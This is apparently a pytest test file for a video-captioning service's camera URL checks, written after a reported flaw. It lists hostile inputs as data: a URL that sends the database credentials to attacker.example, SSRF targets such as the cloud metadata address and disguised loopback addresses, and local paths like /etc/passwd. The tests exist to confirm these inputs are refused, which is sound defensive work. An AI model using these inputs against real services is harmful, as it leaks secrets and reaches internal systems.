"""What a camera URL may make a worker do (issue 40, item 1): `${NAME}` references only as a whole credential and
only to VISIONCAP_CAMERA_SECRET_* variables; cameras submitted through the API or `visioncap cameras` only network
cameras, at hosts VISIONCAP_CAMERA_ALLOWED_HOSTS allows; file, folder and webcam sources only from a pipeline file.

Through the real API (a write key) and the real CLI on a SQLite file, pipeline files loaded as `visioncap run` loads
them, and a stream source opening a real MJPEG camera.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from helpers import invoke_cli, pipeline_dict, write_pipeline
from servers.mjpeg_server import MjpegServer
from sqlalchemy import text
from streams import FrameCollector, StateRecorder
from videos import make_gradient_clip

from visioncap.api import create_app
from visioncap.config.api import ApiKey, ApiSettings
from visioncap.config.cameras import CameraConfig, resolve_references
from visioncap.config.keys import hash_key
from visioncap.config.pipeline import load_pipeline
from visioncap.config.sources import StreamSourceConfig
from visioncap.errors import ConfigError
from visioncap.sources.stream import StreamSource
from visioncap.store import CaptionStore, create_db_engine
from visioncap.store.camera_configs import add_camera, get_camera, list_cameras, seed_cameras
from visioncap.store.records import CameraOrigin, CameraState

WRITE_KEY = "camera-url-rules-write-key"
WRITER = {"Authorization": f"Bearer {WRITE_KEY}"}
ATTACKER_URL = "http://attacker.example/a?token=${VISIONCAP_DATABASE_URL}"
GOOD_REFERENCE = "${VISIONCAP_CAMERA_SECRET_YARD}"
WAIT_S = 60.0


def body(camera: str = "yard", **source: Any) -> dict[str, Any]:
    return {"pipeline": "p", "source": {"camera": camera, "kind": "rtsp", "url": "rtsp://cam.local/yard", **source}}


@pytest.fixture
def database_file(tmp_path: Path) -> str:
    url = f"sqlite:///{tmp_path / 'cameras.db'}"
    CaptionStore(create_db_engine(url)).create_schema()
    return url


def api(database: str, tmp_path: Path, **settings: Any) -> TestClient:
    config = ApiSettings(  # type: ignore[call-arg]
        _env_file=None,
        database_url=database,
        data_dir=tmp_path / "data",
        vlm_base_url="http://127.0.0.1:9/v1",
        api_keys=[ApiKey(name="admin", sha256=hash_key(WRITE_KEY), scopes={"read", "write"})],
        **settings,
    )
    return TestClient(create_app(config), headers=WRITER, raise_server_exceptions=False)


@pytest.fixture
def client(database_file: str, tmp_path: Path) -> Iterator[TestClient]:
    with api(database_file, tmp_path) as client:
        yield client


def stored_text(database: str) -> str:
    with create_db_engine(database).connect() as conn:
        # Each value whole (a row's repr shortens long strings).
        return " ".join(str(value) for row in conn.execute(text("SELECT * FROM camera_configs")) for value in row)


def refused(response: Any, param: str, *says: str) -> None:
    assert response.status_code == 422, response.text
    error = response.json()["error"]
    assert error["param"] == param, error
    for words in says:
        assert words in error["message"], error["message"]


# --- references ----------------------------------------------------------------------------------------------


def test_the_attacker_url_is_refused_through_the_api(client: TestClient, database_file: str) -> None:
    """Issue 40: this URL sent the database password to attacker.example at the worker's next poll."""
    answer = client.post("/v1/cameras", json=body(kind="http", url=ATTACKER_URL))
    refused(answer, "source.url", "${VISIONCAP_DATABASE_URL}", "VISIONCAP_CAMERA_SECRET_*")
    # Nor by changing a camera that was accepted.
    assert client.post("/v1/cameras", json=body(kind="http", url="http://cam.local/yard")).status_code == 201
    changed = client.patch("/v1/cameras/yard", json={"source": {"url": ATTACKER_URL}})
    refused(changed, "source.url", "VISIONCAP_CAMERA_SECRET_*")
    assert "VISIONCAP_DATABASE_URL" not in stored_text(database_file)


@pytest.mark.parametrize(
    "url",
    [
        # In the host, the path, a parameter that is no credential, part of a credential's value.
        "http://${VISIONCAP_CAMERA_SECRET_YARD}.attacker.example/x",
        "http://cam.local/${VISIONCAP_CAMERA_SECRET_YARD}/x",
        "http://cam.local/x?q=${VISIONCAP_CAMERA_SECRET_YARD}",
        "http://cam.local/x?keyframe=${VISIONCAP_CAMERA_SECRET_YARD}",
        "http://cam.local/x?token=abc${VISIONCAP_CAMERA_SECRET_YARD}",
        "http://${VISIONCAP_CAMERA_SECRET_YARD}:x@cam.local/x",  # the user name, not the password
        "http://cam.local/x#${VISIONCAP_CAMERA_SECRET_YARD}",
    ],
)
def test_a_reference_outside_a_whole_credential_is_refused(client: TestClient, url: str) -> None:
    refused(client.post("/v1/cameras", json=body(kind="http", url=url)), "source.url", "outside a credential")
    with pytest.raises(ConfigError, match="outside a credential"):
        resolve_references(url, {"VISIONCAP_CAMERA_SECRET_YARD": "pw"})


@pytest.mark.parametrize(
    "url",
    [
        f"rtsp://viewer:{GOOD_REFERENCE}@cam.local/yard",
        f"rtsp://viewer%3A{GOOD_REFERENCE}@cam.local/yard",
        f"http://cam.local/video.cgi?user=viewer&pwd={GOOD_REFERENCE}&channel=1",
        f"http://cam.local/x?access_token={GOOD_REFERENCE}",
        f"rtsp://cam.local/live;token={GOOD_REFERENCE}/main",
    ],
)
def test_a_camera_secret_as_a_whole_credential_is_accepted_and_stored_as_written(
    client: TestClient, database_file: str, url: str
) -> None:
    kind = url.split(":")[0]
    answer = client.post("/v1/cameras", json=body(kind=kind, url=url))
    assert answer.status_code == 201, answer.text
    assert GOOD_REFERENCE not in answer.text  # shown masked
    assert GOOD_REFERENCE in stored_text(database_file)  # the worker resolves it
    assert "pw-of-yard" in resolve_references(url, {"VISIONCAP_CAMERA_SECRET_YARD": "pw-of-yard"})


@pytest.mark.parametrize(
    ("url", "says"),
    [
        ("rtsp://viewer:${CAM_PASSWORD}@cam.local/yard", "${CAM_PASSWORD}"),
        ("rtsp://viewer:${VISIONCAP_CAMERA_SECRET_}@cam.local/yard", "${VISIONCAP_CAMERA_SECRET_}"),
        ("rtsp://viewer:${visioncap_camera_secret_yard}@cam.local/yard", "${visioncap_camera_secret_yard}"),
        ("rtsp://viewer:${VISIONCAP-DATABASE}@cam.local/yard", "not a reference"),
        ("rtsp://viewer:${VISIONCAP_CAMERA_SECRET_YARD@cam.local/yard", "not a reference"),
    ],
)
def test_a_reference_to_another_variable_is_refused(client: TestClient, url: str, says: str) -> None:
    refused(client.post("/v1/cameras", json=body(url=url)), "source.url", says)


def test_resolve_refuses_a_variable_without_the_prefix_even_when_it_is_set() -> None:
    """Rows stored by older versions were never checked: the worker checks again before resolving."""
    environ = {"VISIONCAP_DATABASE_URL": "postgresql://visioncap:db-s3cret@db/visioncap", "CAM_PASSWORD": "pw"}
    for url in (ATTACKER_URL, "rtsp://viewer:${CAM_PASSWORD}@cam.local/yard"):
        with pytest.raises(ConfigError, match=r"VISIONCAP_CAMERA_SECRET_\*") as info:
            resolve_references(url, environ)
        assert "db-s3cret" not in str(info.value)
    secret = {"VISIONCAP_CAMERA_SECRET_YARD": "pw"}
    assert resolve_references(f"rtsp://viewer:{GOOD_REFERENCE}@cam/x?token={GOOD_REFERENCE}", secret) == (
        "rtsp://viewer:pw@cam/x?token=pw"
    )
    with pytest.raises(ConfigError, match=r"VISIONCAP_CAMERA_SECRET_GATE .* is not set"):
        resolve_references("rtsp://viewer:${VISIONCAP_CAMERA_SECRET_GATE}@cam/x", secret)


def test_rows_an_older_version_stored_are_still_listed(client: TestClient, database_file: str) -> None:
    """The new rules are not the stored model's: a row from before them is shown (and refused when resolved)."""
    old = StreamSourceConfig(camera="old", kind="http", url=ATTACKER_URL)
    add_camera(create_db_engine(database_file), CameraConfig(pipeline="p", source=old))
    listed = client.get("/v1/cameras")
    assert listed.status_code == 200, listed.text
    assert [item["camera"] for item in listed.json()["items"]] == ["old"]


# --- kinds ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "source",
    [
        {"kind": "file", "path": "/data/visioncap.db"},
        {"kind": "folder", "path": "/etc"},
        {"kind": "webcam", "url": "/dev/../data/x.mp4"},
        {"kind": "webcam", "url": "0"},
    ],
    ids=["file", "folder", "webcam-path", "webcam-index"],
)
def test_local_sources_are_refused_through_the_api(
    client: TestClient, database_file: str, source: dict[str, Any]
) -> None:
    answer = client.post("/v1/cameras", json={"pipeline": "p", "source": {"camera": "yard", **source}})
    refused(answer, "source.kind", f"{source['kind']} sources come from a pipeline file only", "network cameras")
    assert client.post("/v1/cameras", json=body()).status_code == 201
    # Nor by turning a network camera into one.
    changed = client.patch("/v1/cameras/yard", json={"source": source})
    refused(changed, "source.kind", f"{source['kind']} sources")
    stored = get_camera(create_db_engine(database_file), "yard")
    assert stored is not None and stored.config.source.kind == "rtsp"


def test_a_pipeline_files_local_camera_may_be_tuned_but_not_moved(
    client: TestClient, database_file: str, tmp_path: Path
) -> None:
    video = tmp_path / "door.mp4"
    video.write_bytes(b"not decoded here")
    config = load_pipeline(write_pipeline(tmp_path, pipeline_dict(video)))
    seed_cameras(create_db_engine(database_file), "test", list(config.sources))
    tuned = client.patch("/v1/cameras/cam-1", json={"source": {"analyze_fps": 2}, "paused": True})
    assert tuned.status_code == 200, tuned.text
    moved = client.patch("/v1/cameras/cam-1", json={"source": {"path": "/etc/passwd"}})
    refused(moved, "source.kind", "file sources")
    stored = get_camera(create_db_engine(database_file), "cam-1")
    assert stored is not None and stored.origin is CameraOrigin.FILE
    assert str(stored.config.source.path) == str(video)  # type: ignore[union-attr]


def test_the_cli_refuses_local_sources_and_the_attacker_url(database_file: str) -> None:
    env = {"VISIONCAP_DATABASE_URL": database_file}
    file = invoke_cli("cameras", "add", "yard", "--pipeline", "p", "--kind", "file", "--path", "/etc/passwd", env=env)
    assert file.returncode == 2 and "file sources come from a pipeline file" in file.stderr, file.stderr
    webcam = invoke_cli("cameras", "add", "yard", "--pipeline", "p", "--kind", "webcam", "--url", "0", env=env)
    assert webcam.returncode == 2 and "webcam sources" in webcam.stderr, webcam.stderr
    attacker = invoke_cli("cameras", "add", "yard", "--pipeline", "p", "--kind", "http", "--url", ATTACKER_URL, env=env)
    assert attacker.returncode == 2 and "VISIONCAP_CAMERA_SECRET_*" in attacker.stderr, attacker.stderr
    assert list_cameras(create_db_engine(database_file)) == []
    added = invoke_cli(
        "cameras", "add", "yard", "--pipeline", "p", "--kind", "rtsp", "--url", f"rtsp://v:{GOOD_REFERENCE}@cam/y",
        "--new-pipeline", env=env,
    )  # fmt: skip
    assert added.returncode == 0, added.stderr
    moved = invoke_cli("cameras", "update", "yard", "--kind", "folder", "--path", "/etc", env=env)
    assert moved.returncode == 2 and "folder sources" in moved.stderr, moved.stderr


# --- pipeline files ------------------------------------------------------------------------------------------


def test_pipeline_files_keep_local_sources_and_follow_the_reference_rule(tmp_path: Path) -> None:
    video = tmp_path / "door.mp4"
    video.write_bytes(b"not decoded here")
    frames = tmp_path / "frames"
    frames.mkdir()

    def load(*sources: dict[str, Any]) -> list[Any]:
        path = write_pipeline(tmp_path, pipeline_dict(video, sources=list(sources)))
        return list(load_pipeline(path).sources)

    loaded = load(
        {"camera": "door", "path": str(video)},
        {"camera": "shots", "kind": "folder", "path": str(frames)},
        {"camera": "desk", "kind": "webcam", "url": "/dev/video0"},
        {"camera": "gate", "kind": "rtsp", "url": f"rtsp://viewer:{GOOD_REFERENCE}@cam/gate"},
        {"camera": "dock", "kind": "rtsp", "url": "rtsp://viewer:inline-pw@cam/dock"},  # the file's own secret
    )
    assert [source.kind for source in loaded] == ["file", "folder", "webcam", "rtsp", "rtsp"]
    for source, says in [
        ({"camera": "gate", "kind": "rtsp", "url": "rtsp://viewer:${CAM_PASSWORD}@cam/gate"}, "${CAM_PASSWORD}"),
        ({"camera": "gate", "kind": "http", "url": f"http://cam/{GOOD_REFERENCE}"}, "outside a credential"),
        ({"camera": "desk", "kind": "webcam", "url": "/dev/../data/x.mp4"}, "under /dev/"),
    ]:
        with pytest.raises(ConfigError) as info:
            load(source)
        assert "sources.0.url: " in str(info.value) and says in str(info.value), info.value


# --- the host allow-list -------------------------------------------------------------------------------------

ALLOWED = ["10.0.0.0/8", "cam.local", "*.cams.example"]


@pytest.mark.parametrize(
    ("url", "allowed"),
    [
        ("rtsp://10.1.2.3/live", True),
        ("rtsp://viewer:${VISIONCAP_CAMERA_SECRET_YARD}@cam.local/live", True),
        ("http://door.cams.example/video.cgi", True),
        ("rtsp://127.0.0.1/live", False),
        ("http://169.254.169.254/latest/meta-data/", False),
        ("http://[::ffff:127.0.0.1]/x", False),
        ("http://localhost:8090/v1/captions", False),  # a name not listed: resolved, 127.0.0.1 is outside
        ("http://2130706433/x", False),  # 127.0.0.1 spelled as a number, which the resolver reads
        ("http://cams.example/x", False),  # *.cams.example: names under it only
    ],
)
def test_the_host_allow_list_is_checked_at_submission(
    database_file: str, tmp_path: Path, url: str, allowed: bool
) -> None:
    with api(database_file, tmp_path, camera_allowed_hosts=ALLOWED) as client:
        answer = client.post("/v1/cameras", json=body(kind=url.split(":")[0], url=url))
        if allowed:
            assert answer.status_code == 201, answer.text
        else:
            refused(answer, "source.url", "VISIONCAP_CAMERA_ALLOWED_HOSTS")
            assert client.post("/v1/cameras", json=body(url="rtsp://10.0.0.9/yard")).status_code == 201
            refused(client.patch("/v1/cameras/yard", json={"source": {"url": url}}), "source.url", "ALLOWED_HOSTS")


def test_the_cli_checks_the_allow_list(database_file: str) -> None:
    env = {"VISIONCAP_DATABASE_URL": database_file, "VISIONCAP_CAMERA_ALLOWED_HOSTS": "10.0.0.0/8, cam.local"}
    outside = invoke_cli(
        "cameras", "add", "yard", "--pipeline", "p", "--kind", "rtsp", "--url", "rtsp://127.0.0.1/x", env=env
    )
    assert outside.returncode == 2 and "VISIONCAP_CAMERA_ALLOWED_HOSTS" in outside.stderr, outside.stderr
    inside = invoke_cli(
        "cameras", "add", "yard", "--pipeline", "p", "--kind", "rtsp", "--url", "rtsp://cam.local/x", "--new-pipeline",
        env=env,
    )  # fmt: skip
    assert inside.returncode == 0, inside.stderr
    moved = invoke_cli("cameras", "update", "yard", "--url", "rtsp://127.0.0.1/x", env=env)
    assert moved.returncode == 2 and "VISIONCAP_CAMERA_ALLOWED_HOSTS" in moved.stderr, moved.stderr
    broken = invoke_cli("cameras", "list", env={**env, "VISIONCAP_CAMERA_ALLOWED_HOSTS": "10.0.0.0/33"})
    assert broken.returncode == 2 and "VISIONCAP_CAMERA_ALLOWED_HOSTS" in broken.stderr, broken.stderr


@pytest.fixture(scope="module")
def clip(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return make_gradient_clip(tmp_path_factory.mktemp("allow-list-video") / "clip.mp4")


def stream(url: str) -> StreamSourceConfig:
    return StreamSourceConfig(
        camera="door", kind="http", url=url, open_timeout_s=5, read_timeout_s=5, reconnect_initial_s=0.2
    )


def test_the_worker_checks_the_allow_list_when_it_opens_a_camera(
    clip: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    """Whatever the database holds (a row from before the list, a name that now resolves elsewhere), the source
    connects only to allowed hosts, the names resolved when it opens."""
    with MjpegServer(clip, fps=20) as camera:
        monkeypatch.setenv("VISIONCAP_CAMERA_ALLOWED_HOSTS", "10.0.0.0/8,cam.local")
        states = StateRecorder()
        with FrameCollector(StreamSource(stream(camera.url), on_state=states)) as collector:
            states.wait_for(CameraState.RECONNECTING)
            assert collector.taken == []
        assert camera.frames_sent == 0  # never connected
        assert any("not in VISIONCAP_CAMERA_ALLOWED_HOSTS" in record.getMessage() for record in caplog.records)

        # Allowed by network, the name `localhost` resolved into it: frames.
        monkeypatch.setenv("VISIONCAP_CAMERA_ALLOWED_HOSTS", "127.0.0.0/8,::1/128")
        by_name = camera.url.replace("127.0.0.1", "localhost")
        with FrameCollector(StreamSource(stream(by_name))) as collector:
            collector.wait_count(2)
